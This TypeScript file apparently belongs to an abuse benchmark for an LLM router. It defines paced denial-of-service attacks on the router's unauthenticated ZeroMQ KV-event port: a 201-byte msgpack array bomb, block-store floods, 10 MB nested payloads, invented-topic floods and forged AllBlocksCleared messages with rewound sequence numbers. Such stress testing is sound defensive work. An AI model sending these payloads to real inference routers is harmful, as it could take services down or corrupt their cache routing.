// EVENTS attacks for `npm run bench:abuse` (see types.ts): what anyone who can reach the
// router's KV-event port can send (vLLM's publisher has no authentication), as tried in issue 13.
// Each runs in its own process (attack-child.ts) on its own PUB socket connected to the router.
import { Publisher } from 'zeromq';
import type { AbuseTarget, Attack } from './types.js';
import { arrayBomb, deepNesting, emptyBatch, invalidEvents, seqFrame, storeBatch } from './event-payloads.js';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Sends `next()` messages at up to `perSecond` until aborted or `durationMs` passes. */
async function paced(target: AbuseTarget, signal: AbortSignal, durationMs: number, perSecond: number, next: (i: number) => (Uint8Array | string)[]): Promise<void> {
  const pub = new Publisher({ linger: 0, sendHighWaterMark: 10_000 });
  pub.connect(target.zmqEndpoint);
  try {
    await sleep(200); // slow joiner: let the connection come up
    const t0 = performance.now();
    let i = 0;
    let bytes = 0;
    while (!signal.aborted) {
      const elapsed = performance.now() - t0;
      if (elapsed > durationMs) break;
      // catch up at most 50 messages per turn, so an abort or the deadline is seen quickly
      const due = Math.min(Math.floor((elapsed / 1000) * perSecond) + 1, i + 50);
      if (i >= due) {
        await sleep(2);
        continue;
      }
      while (i < due && !signal.aborted) {
        const m = next(i++);
        bytes += m.reduce((s, f) => s + f.length, 0);
        await pub.send(m);
      }
      await new Promise((r) => setImmediate(r));
    }
    // the bench shows this line as the row's note (attack-child.ts)
    const s = (performance.now() - t0) / 1000;
    process.stdout.write(`sent ${i} msgs, ${(i / s).toFixed(0)}/s, ${(bytes / s / 2 ** 20).toFixed(1)} MB/s\n`);
  } finally {
    pub.close();
  }
}

const podTopic = (t: AbuseTarget, i = 0) => `kv@${t.pods[i % t.pods.length]}@${t.model}`;

export const eventsAttacks: Attack[] = [
  {
    name: 'kv-bomb-201B',
    description: "the issue's 201-byte message: 40 nested array32 headers of 16,777,215 elements (2,000/s)",
    run: (t, signal, ms) => {
      const bomb = arrayBomb();
      return paced(t, signal, ms, 2000, (i) => [podTopic(t, i), seqFrame(1_000_000 + i), bomb]);
    },
  },
  {
    name: 'kv-store-flood',
    description: '~1.3M block stores/s (325 batches/s of 500 events x 8 blocks) under a known pod, another model',
    run: (t, signal, ms) => {
      // pre-encoded, so the sender keeps up; different chains in every batch
      const batches = Array.from({ length: 64 }, (_, k) => storeBatch(500, 8, k * 4000));
      const topic = `kv@${t.pods[0]}@flood-model`;
      return paced(t, signal, ms, 325, (i) => [topic, seqFrame(i), batches[i % batches.length]]);
    },
  },
  {
    name: 'kv-nested-10MB',
    description: '10 MB of nested one-element arrays per message (5/s)',
    run: (t, signal, ms) => {
      const nested = deepNesting(10 << 20);
      return paced(t, signal, ms, 5, (i) => [podTopic(t, i), seqFrame(2_000_000 + i), nested]);
    },
  },
  {
    name: 'kv-invalid-1M',
    description: '1 MB batches holding 1M invalid events (5/s)',
    run: (t, signal, ms) => {
      const invalid = invalidEvents(1_000_000);
      return paced(t, signal, ms, 5, (i) => [podTopic(t, i), seqFrame(3_000_000 + i), invalid]);
    },
  },
  {
    name: 'kv-invented-topics',
    description: 'a new invented pod topic in every message (17,000/s; the issue sent 253k in 15 s)',
    run: (t, signal, ms) => {
      const batch = emptyBatch();
      return paced(t, signal, ms, 17_000, (i) => [`kv@10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}:8000@${t.model}`, seqFrame(0), batch]);
    },
  },
  {
    name: 'kv-seq-rewind',
    description: "AllBlocksCleared under each real pod's topic with a seq that went back (500/s)",
    run: (t, signal, ms) => {
      const clear = new Uint8Array([0x93, 0xcb, 0x3f, 0xf8, 0, 0, 0, 0, 0, 0, 0x91, 0x91, 0xb0, ...Buffer.from('AllBlocksCleared'), 0x00]);
      return paced(t, signal, ms, 500, (i) => [podTopic(t, i), seqFrame(1), clear]);
    },
  },
];
